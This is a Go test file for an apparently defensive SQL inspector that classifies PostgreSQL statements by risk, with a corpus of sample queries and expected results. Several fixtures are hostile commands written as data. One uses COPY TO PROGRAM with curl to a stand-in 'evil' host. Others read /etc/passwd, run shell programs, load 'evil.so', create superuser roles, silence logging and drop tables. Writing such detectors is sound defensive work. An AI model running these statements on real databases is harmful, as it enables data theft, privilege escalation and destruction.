package inspect

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

// tc is one statement and the facts it must produce. Nil slices are not checked; an empty
// non-nil slice demands none. flags lists the boolean facts that must be true
// (where, trivial, limit, export, program, file, locking); every other one must be false.
type tc struct {
	sql     string
	kind    string
	cat     Category
	read    []string
	written []string
	funcs   []string
	cols    []string
	flags   string
	setting string
}

var none = []string{}

var cases = []tc{
	// plain reads
	{sql: "SELECT abalance FROM pgbench_accounts WHERE aid = 42", kind: "SELECT", cat: Read, read: []string{"pgbench_accounts"}, written: none, cols: []string{"abalance", "aid"}, flags: "where"},
	{sql: "select * from public.users u join orders o on o.uid = u.id limit 10", kind: "SELECT", cat: Read, read: []string{"public.users", "orders"}, cols: []string{"*", "uid", "id"}, flags: "limit"},
	{sql: `SELECT "Email" FROM "Public"."Users"`, kind: "SELECT", cat: Read, read: []string{"Public.Users"}, cols: []string{"Email"}},
	{sql: `SELECT email FROM PUBLIC.USERS`, kind: "SELECT", cat: Read, read: []string{"public.users"}},
	{sql: "SELECT 1 FROM t FETCH FIRST 5 ROWS ONLY", kind: "SELECT", cat: Read, read: []string{"t"}, flags: "limit"},
	{sql: "SELECT 1 FROM t LIMIT ALL", kind: "SELECT", cat: Read, read: []string{"t"}},
	{sql: "SELECT * FROM (SELECT * FROM t LIMIT 1) s", kind: "SELECT", cat: Read, read: []string{"t"}},
	{sql: "SELECT a FROM t1 UNION SELECT b FROM t2 ORDER BY 1 LIMIT 3", kind: "SELECT", cat: Read, read: []string{"t1", "t2"}, flags: "limit"},
	{sql: "SELECT * FROM t WHERE id IN (SELECT uid FROM secrets)", kind: "SELECT", cat: Read, read: []string{"t", "secrets"}, flags: "where"},
	{sql: "SELECT (SELECT max(x) FROM inner_t) FROM outer_t", kind: "SELECT", cat: Read, read: []string{"inner_t", "outer_t"}, funcs: []string{"max"}},
	{sql: "SELECT count(*), lower(name), coalesce(a, b), date_trunc('day', ts) FROM t GROUP BY 2, 3, 4", kind: "SELECT", cat: Read, funcs: []string{"count", "lower", "date_trunc"}},
	{sql: "SELECT pg_catalog.format_type(atttypid, atttypmod) FROM pg_catalog.pg_attribute", kind: "SELECT", cat: Read, read: []string{"pg_catalog.pg_attribute"}},
	{sql: "SELECT * FROM t FOR UPDATE", kind: "SELECT", cat: Read, read: []string{"t"}, flags: "locking"},
	{sql: "VALUES (1), (2)", kind: "SELECT", cat: Read, read: none},
	{sql: "TABLE secrets", kind: "SELECT", cat: Read, read: []string{"secrets"}},
	{sql: "SELECT * FROM xmltable('/a' PASSING (SELECT x FROM hidden) COLUMNS a int)", kind: "SELECT", cat: Read, read: []string{"hidden"}},
	{sql: "SELECT * FROM t TABLESAMPLE SYSTEM (10)", kind: "SELECT", cat: Read, read: []string{"t"}},
	{sql: "SELECT * FROM ONLY parent", kind: "SELECT", cat: Read, read: []string{"parent"}},
	{sql: "SELECT * FROM mydb.public.t", kind: "SELECT", cat: Read, read: []string{"mydb.public.t"}},

	// CTEs: names are not tables, but only inside their scope
	{sql: "WITH x AS (SELECT * FROM real_t) SELECT * FROM x", kind: "SELECT", cat: Read, read: []string{"real_t"}},
	{sql: "SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) a, secret", kind: "SELECT", cat: Read, read: []string{"secret"}},
	{sql: "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", kind: "SELECT", cat: Read, read: none},
	{sql: "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", kind: "SELECT", cat: Read, read: []string{"b"}},
	{sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r", kind: "SELECT", cat: Read, read: none},
	{sql: "WITH users AS (SELECT 1) SELECT * FROM public.users", kind: "SELECT", cat: Read, read: []string{"public.users"}},

	// data-modifying CTEs: the worst effect wins
	{sql: "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", kind: "DELETE", cat: Write, read: none, written: []string{"users"}},
	{sql: "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM d", kind: "DELETE", cat: Write, written: []string{"t", "archive"}, flags: "where"},
	{sql: "WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u", kind: "UPDATE", cat: Write, written: []string{"accounts"}},
	{sql: "WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i", kind: "INSERT", cat: Write, written: []string{"log"}},
	{sql: "SELECT * FROM (WITH d AS (DELETE FROM x WHERE true RETURNING 1) SELECT * FROM d) s", kind: "DELETE", cat: Write, written: []string{"x"}, flags: "where,trivial"},

	// writes
	{sql: "INSERT INTO t (a, b) VALUES (1, 'x')", kind: "INSERT", cat: Write, read: none, written: []string{"t"}, cols: []string{"a", "b"}},
	{sql: "INSERT INTO archive SELECT * FROM users WHERE deleted", kind: "INSERT", cat: Write, read: []string{"users"}, written: []string{"archive"}},
	{sql: "INSERT INTO t (id, n) VALUES (1, 1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", kind: "INSERT", cat: Write, written: []string{"t"}},
	{sql: "UPDATE users SET email = 'x'", kind: "UPDATE", cat: Write, written: []string{"users"}, cols: []string{"email"}},
	{sql: "UPDATE users SET email = 'x' WHERE id = 7", kind: "UPDATE", cat: Write, written: []string{"users"}, cols: []string{"email", "id"}, flags: "where"},
	{sql: "UPDATE t SET a = 1 WHERE true", kind: "UPDATE", cat: Write, written: []string{"t"}, flags: "where,trivial"},
	{sql: "UPDATE t SET a = 1 WHERE 1=1", kind: "UPDATE", cat: Write, flags: "where,trivial"},
	{sql: "UPDATE t SET a = 1 WHERE 'a' = 'a' OR a > 5", kind: "UPDATE", cat: Write, flags: "where,trivial"},
	{sql: "UPDATE t SET a = 1 WHERE id = id", kind: "UPDATE", cat: Write, flags: "where,trivial"},
	{sql: "UPDATE t SET a = 1 WHERE 't'::boolean", kind: "UPDATE", cat: Write, flags: "where,trivial"},
	{sql: "UPDATE t SET a = 1 WHERE NOT false AND 2 > 1", kind: "UPDATE", cat: Write, flags: "where,trivial"},
	{sql: "UPDATE t SET a = 1 WHERE 1 = 2", kind: "UPDATE", cat: Write, flags: "where"},
	{sql: "UPDATE t SET a = 1 FROM u WHERE t.id = u.id", kind: "UPDATE", cat: Write, read: []string{"u"}, written: []string{"t"}, flags: "where"},
	{sql: "DELETE FROM t", kind: "DELETE", cat: Write, written: []string{"t"}},
	{sql: "delete from t where id = 1", kind: "DELETE", cat: Write, written: []string{"t"}, flags: "where"},
	{sql: "DELETE FROM t USING u WHERE t.id = u.id", kind: "DELETE", cat: Write, read: []string{"u"}, written: []string{"t"}, flags: "where"},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", kind: "MERGE", cat: Write, read: []string{"s"}, written: []string{"t"}, flags: "where"},
	{sql: "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", kind: "MERGE", cat: Write, read: []string{"s"}, written: []string{"t"}, flags: "where,trivial"},

	// EXPLAIN, PREPARE, EXECUTE
	{sql: "EXPLAIN DELETE FROM t", kind: "EXPLAIN", cat: Read, read: []string{"t"}, written: none},
	{sql: "EXPLAIN ANALYZE DELETE FROM t", kind: "DELETE", cat: Write, written: []string{"t"}},
	{sql: "explain (analyze, buffers) update t set a = 1", kind: "UPDATE", cat: Write, written: []string{"t"}},
	{sql: "EXPLAIN (ANALYZE true) DELETE FROM t", kind: "DELETE", cat: Write, written: []string{"t"}},
	{sql: "EXPLAIN (ANALYZE false) DELETE FROM t", kind: "EXPLAIN", cat: Read, read: []string{"t"}, written: none},
	{sql: "EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t", kind: "EXPLAIN", cat: Read, read: []string{"t"}},
	{sql: "EXPLAIN SELECT pg_read_file('/etc/passwd')", kind: "EXPLAIN", cat: Admin},
	{sql: "PREPARE p AS DELETE FROM t", kind: "DELETE", cat: Write, written: []string{"t"}},
	{sql: "PREPARE p (int) AS SELECT * FROM t WHERE id = $1", kind: "SELECT", cat: Read, read: []string{"t"}, flags: "where"},
	{sql: "EXECUTE p(1)", kind: "EXECUTE", cat: Unknown},
	{sql: "EXECUTE p(pg_read_file('x'))", kind: "EXECUTE", cat: Unknown, funcs: []string{"pg_read_file"}},
	{sql: "DEALLOCATE p", kind: "DEALLOCATE", cat: SessionCat},
	{sql: "DEALLOCATE ALL", kind: "DEALLOCATE", cat: SessionCat},

	// functions that read files, run SQL, or change identity
	{sql: "SELECT pg_read_file('/etc/passwd')", kind: "SELECT", cat: Admin, funcs: []string{"pg_read_file"}},
	{sql: "SELECT pg_catalog.pg_read_binary_file('x')", kind: "SELECT", cat: Admin, funcs: []string{"pg_catalog.pg_read_binary_file"}},
	{sql: "SELECT * FROM pg_ls_dir('.')", kind: "SELECT", cat: Admin, funcs: []string{"pg_ls_dir"}},
	{sql: "SELECT lo_import('/etc/passwd')", kind: "SELECT", cat: Admin},
	{sql: "SELECT lo_export(1234, '/tmp/x')", kind: "SELECT", cat: Admin, flags: "export"},
	{sql: "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", kind: "SELECT", cat: Admin, funcs: []string{"dblink"}},
	{sql: "SELECT dblink_exec('DROP TABLE t')", kind: "SELECT", cat: Admin},
	{sql: "SELECT pg_terminate_backend(123)", kind: "SELECT", cat: Admin},
	{sql: "SELECT set_config('role', 'postgres', false)", kind: "SET ROLE", cat: Admin, setting: "role"},
	{sql: "SELECT set_config('session_authorization', 'postgres', false)", kind: "SET SESSION AUTHORIZATION", cat: Admin, setting: "session_authorization"},
	{sql: "SELECT set_config('search_path', 'x', false)", kind: "SELECT", cat: Read, setting: "search_path"},
	{sql: "SELECT set_config('log_statement', 'none', false)", kind: "SELECT", cat: Admin, setting: "log_statement"},
	{sql: "SELECT set_config(name, 'x', false) FROM t", kind: "SELECT", cat: Unknown},
	// pg_dump: set a parameter only where the server has it
	{sql: "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", kind: "SELECT", cat: Read, setting: "restrict_nonsystem_relation_kind", flags: "where"},
	{sql: "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'role'", kind: "SET ROLE", cat: Admin, setting: "role", flags: "where"},
	{sql: "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'rol%'", kind: "SELECT", cat: Unknown, flags: "where"},
	{sql: "SELECT query_to_xml('DELETE FROM users', true, true, '')", kind: "DELETE", cat: Write, written: []string{"users"}},
	{sql: "SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", kind: "SELECT", cat: Read, read: []string{"secrets"}},
	{sql: "SELECT query_to_xml(some_col, true, true, '') FROM t", kind: "SELECT", cat: Unknown},
	{sql: "SELECT query_to_xml('SELECT pg_read_file(''x'')', true, true, '')", kind: "SELECT", cat: Admin},
	{sql: "SELECT query_to_xml('garbage ((', true, true, '')", kind: "SELECT", cat: Unknown},
	{sql: "SELECT myfunc(1)", kind: "SELECT", cat: Unknown, funcs: []string{"myfunc"}},
	{sql: "SELECT public.lower('x')", kind: "SELECT", cat: Unknown, funcs: []string{"public.lower"}},
	{sql: "SELECT nextval('s')", kind: "SELECT", cat: Write},
	{sql: "SELECT ts_stat('SELECT vector FROM apod')", kind: "SELECT", cat: Unknown},
	{sql: "SELECT 1 OPERATOR(public.===) 2", kind: "SELECT", cat: Unknown, funcs: []string{"public.==="}},
	{sql: "SELECT 1 OPERATOR(pg_catalog.+) 2", kind: "SELECT", cat: Read},

	// COPY
	{sql: "COPY users TO STDOUT", kind: "COPY", cat: Read, read: []string{"users"}, flags: "export"},
	{sql: "COPY (SELECT email FROM users) TO STDOUT WITH CSV", kind: "COPY", cat: Read, read: []string{"users"}, flags: "export"},
	{sql: "COPY users TO '/tmp/users.csv'", kind: "COPY", cat: Admin, read: []string{"users"}, flags: "export,file"},
	{sql: "COPY users TO PROGRAM 'curl -T - http://evil'", kind: "COPY", cat: Admin, flags: "export,program"},
	{sql: "COPY users FROM STDIN", kind: "COPY", cat: Write, written: []string{"users"}, read: none},
	{sql: "COPY users (id, email) FROM '/etc/passwd'", kind: "COPY", cat: Admin, written: []string{"users"}, cols: []string{"id", "email"}, flags: "file"},
	{sql: "COPY t FROM PROGRAM 'id'", kind: "COPY", cat: Admin, written: []string{"t"}, flags: "program"},
	{sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", kind: "DELETE", cat: Write, written: []string{"t"}, flags: "export"},

	// bulk exports into tables
	{sql: "SELECT * INTO copy_t FROM users", kind: "SELECT INTO", cat: DDL, read: []string{"users"}, written: []string{"copy_t"}, flags: "export"},
	{sql: "CREATE TABLE x AS SELECT * FROM users", kind: "CREATE TABLE AS", cat: DDL, read: []string{"users"}, written: []string{"x"}, flags: "export"},
	{sql: "CREATE MATERIALIZED VIEW mv AS SELECT * FROM users", kind: "CREATE MATERIALIZED VIEW", cat: DDL, read: []string{"users"}, written: []string{"mv"}, flags: "export"},
	{sql: "CREATE TABLE x AS SELECT * FROM users WITH NO DATA", kind: "CREATE TABLE AS", cat: DDL},

	// DDL
	{sql: "DROP TABLE t", kind: "DROP TABLE", cat: DDL, written: []string{"t"}},
	{sql: "dRoP/**/TABLE t", kind: "DROP TABLE", cat: DDL, written: []string{"t"}},
	{sql: "-- x\nDROP TABLE t", kind: "DROP TABLE", cat: DDL, written: []string{"t"}},
	{sql: "/* a */ DrOp /* b */ TaBlE /* c */ \"Public\".\"Users\"", kind: "DROP TABLE", cat: DDL, written: []string{"Public.Users"}},
	{sql: "DROP TABLE IF EXISTS a, public.b, c CASCADE", kind: "DROP TABLE", cat: DDL, written: []string{"a", "public.b", "c"}},
	{sql: "DROP SCHEMA app CASCADE", kind: "DROP SCHEMA", cat: DDL},
	{sql: "DROP VIEW v", kind: "DROP VIEW", cat: DDL, written: []string{"v"}},
	{sql: "DROP MATERIALIZED VIEW mv", kind: "DROP MATERIALIZED VIEW", cat: DDL},
	{sql: "DROP INDEX CONCURRENTLY i", kind: "DROP INDEX", cat: DDL},
	{sql: "DROP FUNCTION f(int)", kind: "DROP FUNCTION", cat: DDL},
	{sql: "DROP DATABASE prod", kind: "DROP DATABASE", cat: DDL},
	{sql: "DROP EXTENSION pgaudit", kind: "DROP EXTENSION", cat: Admin},
	{sql: "CREATE TABLE t (id int PRIMARY KEY, email text DEFAULT gen_random_uuid()::text)", kind: "CREATE TABLE", cat: DDL, written: []string{"t"}, read: none},
	{sql: "CREATE TABLE c (LIKE users)", kind: "CREATE TABLE", cat: DDL, written: []string{"c"}},
	{sql: "ALTER TABLE users ADD COLUMN x int", kind: "ALTER TABLE", cat: DDL, written: []string{"users"}, read: none},
	{sql: "ALTER TABLE users DISABLE ROW LEVEL SECURITY", kind: "ALTER TABLE", cat: Admin, written: []string{"users"}},
	{sql: "ALTER TABLE users OWNER TO mallory", kind: "ALTER TABLE", cat: Admin},
	{sql: "ALTER TABLE users RENAME TO people", kind: "ALTER TABLE", cat: DDL, written: []string{"users"}},
	{sql: "ALTER TABLE users RENAME COLUMN a TO b", kind: "ALTER TABLE", cat: DDL},
	{sql: "CREATE INDEX ON users (email)", kind: "CREATE INDEX", cat: DDL, written: []string{"users"}},
	{sql: "CREATE UNIQUE INDEX CONCURRENTLY i ON users (lower(email))", kind: "CREATE INDEX", cat: DDL},
	{sql: "CREATE VIEW v AS SELECT * FROM users", kind: "CREATE VIEW", cat: DDL, read: []string{"users"}, written: []string{"v"}},
	{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DROP TABLE t $$", kind: "CREATE FUNCTION", cat: DDL},
	{sql: "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$", kind: "CREATE PROCEDURE", cat: DDL},
	{sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", kind: "CREATE RULE", cat: DDL},
	{sql: "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", kind: "CREATE TRIGGER", cat: DDL, written: []string{"t"}},
	{sql: "CREATE SCHEMA s", kind: "CREATE SCHEMA", cat: DDL},
	{sql: "CREATE SEQUENCE s", kind: "CREATE SEQUENCE", cat: DDL},
	{sql: "CREATE EXTENSION dblink", kind: "CREATE EXTENSION", cat: Admin},
	{sql: "TRUNCATE t", kind: "TRUNCATE", cat: DDL, written: []string{"t"}},
	{sql: "TRUNCATE ONLY a, b RESTART IDENTITY", kind: "TRUNCATE", cat: DDL, written: []string{"a", "b"}},
	{sql: "truncate table public.audit_log", kind: "TRUNCATE", cat: DDL, written: []string{"public.audit_log"}},
	{sql: "COMMENT ON TABLE t IS 'x'", kind: "COMMENT", cat: DDL},
	{sql: "CREATE CAST (int AS text) WITH INOUT", kind: "CREATE CAST", cat: DDL},

	// admin: roles, grants, system
	{sql: "GRANT SELECT ON users TO bob", kind: "GRANT", cat: Admin, written: []string{"users"}},
	{sql: "REVOKE ALL ON users FROM bob", kind: "REVOKE", cat: Admin},
	{sql: "GRANT admin TO bob", kind: "GRANT", cat: Admin},
	{sql: "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", kind: "CREATE ROLE", cat: Admin},
	{sql: "CREATE USER bob", kind: "CREATE ROLE", cat: Admin},
	{sql: "ALTER ROLE bob SUPERUSER", kind: "ALTER ROLE", cat: Admin},
	{sql: "ALTER USER bob SET search_path = x", kind: "ALTER ROLE", cat: Admin, setting: "search_path"},
	// persistent role changes, effective at the next login: Setting lets the policy see them
	{sql: "ALTER ROLE bob SET role = 'postgres'", kind: "ALTER ROLE", cat: Admin, setting: "role"},
	{sql: "ALTER ROLE ALL IN DATABASE app SET session_authorization TO postgres", kind: "ALTER ROLE", cat: Admin, setting: "session_authorization"},
	{sql: "ALTER DATABASE app SET role = 'postgres'", kind: "ALTER DATABASE", cat: Admin, setting: "role"},
	{sql: "ALTER DATABASE app SET session_authorization TO postgres", kind: "ALTER DATABASE", cat: Admin, setting: "session_authorization"},
	{sql: "ALTER DATABASE app SET work_mem = '1MB'", kind: "ALTER DATABASE", cat: Admin, setting: "work_mem"},
	{sql: "DROP ROLE bob", kind: "DROP ROLE", cat: Admin},
	{sql: "ALTER SYSTEM SET log_statement = 'none'", kind: "ALTER SYSTEM", cat: Admin, setting: "log_statement"},
	{sql: "VACUUM FULL t", kind: "VACUUM", cat: Admin, written: []string{"t"}},
	{sql: "VACUUM", kind: "VACUUM", cat: Admin},
	{sql: "ANALYZE t", kind: "ANALYZE", cat: Admin, read: []string{"t"}},
	{sql: "CLUSTER t USING i", kind: "CLUSTER", cat: Admin},
	{sql: "REINDEX TABLE t", kind: "REINDEX", cat: Admin},
	{sql: "CHECKPOINT", kind: "CHECKPOINT", cat: Admin},
	{sql: "LOAD 'evil.so'", kind: "LOAD", cat: Admin},
	{sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", kind: "ALTER DEFAULT PRIVILEGES", cat: Admin},
	{sql: "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", kind: "CREATE SERVER", cat: Admin},
	{sql: "CREATE POLICY p ON users USING (true)", kind: "CREATE POLICY", cat: Admin},
	{sql: "REASSIGN OWNED BY bob TO alice", kind: "REASSIGN OWNED", cat: Admin},

	// session and identity
	{sql: "SET ROLE admin", kind: "SET ROLE", cat: Admin, setting: "role"},
	{sql: "set local role admin", kind: "SET ROLE", cat: Admin, setting: "role"},
	{sql: "SET ROLE NONE", kind: "SET ROLE", cat: Admin},
	{sql: "RESET ROLE", kind: "RESET ROLE", cat: Admin},
	{sql: "SET SESSION AUTHORIZATION postgres", kind: "SET SESSION AUTHORIZATION", cat: Admin, setting: "session_authorization"},
	{sql: "SET SESSION AUTHORIZATION DEFAULT", kind: "RESET SESSION AUTHORIZATION", cat: Admin},
	{sql: "RESET SESSION AUTHORIZATION", kind: "RESET SESSION AUTHORIZATION", cat: Admin},
	{sql: "SET search_path = app, public", kind: "SET", cat: SessionCat, setting: "search_path"},
	{sql: "SET statement_timeout TO 5000", kind: "SET", cat: SessionCat, setting: "statement_timeout"},
	{sql: "SET session_replication_role = replica", kind: "SET", cat: Admin},
	{sql: "SET log_statement = 'none'", kind: "SET", cat: Admin},
	{sql: "RESET ALL", kind: "RESET", cat: SessionCat},
	{sql: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", kind: "SET TRANSACTION", cat: SessionCat},
	{sql: "SHOW search_path", kind: "SHOW", cat: SessionCat, setting: "search_path"},
	{sql: "DISCARD ALL", kind: "DISCARD", cat: Admin, setting: "session_authorization"},
	{sql: "DISCARD PLANS", kind: "DISCARD", cat: SessionCat},
	{sql: "LISTEN ch", kind: "LISTEN", cat: SessionCat},
	{sql: "UNLISTEN *", kind: "UNLISTEN", cat: SessionCat},
	{sql: "NOTIFY ch, 'payload'", kind: "NOTIFY", cat: Write},

	// transactions
	{sql: "BEGIN", kind: "BEGIN", cat: Transaction},
	{sql: "START TRANSACTION READ ONLY", kind: "BEGIN", cat: Transaction},
	{sql: "COMMIT", kind: "COMMIT", cat: Transaction},
	{sql: "END", kind: "COMMIT", cat: Transaction},
	{sql: "ROLLBACK", kind: "ROLLBACK", cat: Transaction},
	{sql: "SAVEPOINT s1", kind: "SAVEPOINT", cat: Transaction},
	{sql: "RELEASE SAVEPOINT s1", kind: "RELEASE SAVEPOINT", cat: Transaction},
	{sql: "ROLLBACK TO SAVEPOINT s1", kind: "ROLLBACK TO SAVEPOINT", cat: Transaction},
	{sql: "PREPARE TRANSACTION 'x'", kind: "PREPARE TRANSACTION", cat: Transaction},
	{sql: "SET CONSTRAINTS ALL DEFERRED", kind: "SET CONSTRAINTS", cat: Transaction},

	// code the inspector cannot see into
	{sql: "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", kind: "DO", cat: Unknown},
	{sql: "CALL archive_users(30)", kind: "CALL", cat: Unknown, funcs: []string{"archive_users"}},
	{sql: "CREATE OR REPLACE LANGUAGE plpython3u", kind: "CREATE EXTENSION", cat: Admin},
	{sql: "CREATE LANGUAGE plsample HANDLER plsample_call_handler", kind: "CREATE LANGUAGE", cat: Admin},

	// cursors and locks
	{sql: "DECLARE c CURSOR FOR SELECT * FROM users", kind: "DECLARE CURSOR", cat: Read, read: []string{"users"}},
	{sql: "FETCH 10 FROM c", kind: "FETCH", cat: Read},
	{sql: "CLOSE c", kind: "CLOSE", cat: SessionCat},
	{sql: "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", kind: "LOCK TABLE", cat: Write, written: []string{"users"}},
	{sql: "REFRESH MATERIALIZED VIEW mv", kind: "REFRESH MATERIALIZED VIEW", cat: Write, written: []string{"mv"}},

	// strings that look like statements are data
	{sql: "SELECT $$DROP TABLE users$$", kind: "SELECT", cat: Read, read: none},
	{sql: "SELECT $tag$ ; DROP TABLE users; $tag$ AS x", kind: "SELECT", cat: Read, read: none},
	{sql: "SELECT 'a;b; DROP TABLE t' FROM t", kind: "SELECT", cat: Read, read: []string{"t"}},
	{sql: "SELECT E'\\'; DROP TABLE t; --'", kind: "SELECT", cat: Read},
	{sql: `SELECT "DROP TABLE t" FROM t`, kind: "SELECT", cat: Read, cols: []string{"DROP TABLE t"}},
	{sql: "SELECT 1 -- ; DROP TABLE t", kind: "SELECT", cat: Read},
	{sql: "SELECT /* ; DROP TABLE t; */ 1", kind: "SELECT", cat: Read},
}

func TestInspectCorpus(t *testing.T) {
	in := New(0)
	for _, c := range cases {
		t.Run(c.sql, func(t *testing.T) {
			got := in.Inspect(c.sql)
			if len(got) != 1 {
				t.Fatalf("got %d statements, want 1: %+v", len(got), got)
			}
			checkStatement(t, got[0], c)
		})
	}
}

func checkStatement(t *testing.T, st *Statement, c tc) {
	t.Helper()
	if st.Kind != c.kind || st.Category != c.cat {
		t.Errorf("kind/category = %q/%q, want %q/%q (notes %q, parse error %q)", st.Kind, st.Category, c.kind, c.cat, st.Notes, st.ParseError)
	}
	eq := func(name string, got, want []string) {
		if want == nil {
			return
		}
		if len(got) == 0 && len(want) == 0 {
			return
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	eq("TablesRead", st.TablesRead, c.read)
	eq("TablesWritten", st.TablesWritten, c.written)
	if c.funcs != nil {
		for _, f := range c.funcs {
			if !slices.Contains(st.Functions, f) {
				t.Errorf("Functions = %q, want it to include %q", st.Functions, f)
			}
		}
	}
	if c.cols != nil {
		for _, col := range c.cols {
			if !slices.Contains(st.Columns, col) {
				t.Errorf("Columns = %q, want it to include %q", st.Columns, col)
			}
		}
	}
	if c.setting != "" && st.Setting != c.setting {
		t.Errorf("Setting = %q, want %q", st.Setting, c.setting)
	}
	want := map[string]bool{}
	for _, f := range strings.Split(c.flags, ",") {
		if f != "" {
			want[f] = true
		}
	}
	got := map[string]bool{
		"where": st.HasWhere, "trivial": st.WhereTrivial, "limit": st.HasLimit, "export": st.Export,
		"program": st.Program, "file": st.ServerFile, "locking": st.Locking,
	}
	for name := range want {
		if _, ok := got[name]; !ok {
			t.Fatalf("test case names unknown flag %q", name)
		}
	}
	for name, v := range got {
		if v != want[name] {
			t.Errorf("%s = %v, want %v", name, v, want[name])
		}
	}
	if st.ParseError != "" {
		t.Errorf("ParseError = %q", st.ParseError)
	}
	if st.Fingerprint == "" {
		t.Errorf("no fingerprint")
	}
	if st.Text == "" || st.Redacted == "" {
		t.Errorf("Text %q / Redacted %q empty", st.Text, st.Redacted)
	}
}
